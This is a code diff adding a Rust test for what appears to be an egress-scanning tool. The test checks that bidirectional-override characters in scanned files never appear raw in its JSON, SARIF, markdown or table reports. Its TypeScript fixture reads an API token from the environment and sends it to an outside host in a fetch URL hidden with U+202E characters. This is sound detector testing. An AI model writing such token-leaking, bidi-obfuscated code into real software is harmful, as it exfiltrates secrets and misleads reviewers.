@@ -437,3 +437,23 @@ fn a_rule_file_linked_out_of_the_rules_folder_is_refused() {
         "{stderr}"
     );
 }
+
+#[test]
+fn bidi_overrides_from_the_repository_never_reach_a_report_raw() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("app.ts"),
+        "// \u{202e}evil comment\nconst k = process.env.API_TOKEN;\nexport const f = () => fetch(`https://api.example.net/\u{202e}x?token=${k}`);\n",
+    )
+    .unwrap();
+    for format in ["json", "sarif", "markdown", "table"] {
+        let out = egress_scan()
+            .arg(dir.path())
+            .args(["-f", format])
+            .output()
+            .unwrap();
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(text.contains("api.example.net"), "{format}: {text}");
+        assert!(!text.contains('\u{202e}'), "{format} shows a raw U+202E");
+    }
+}
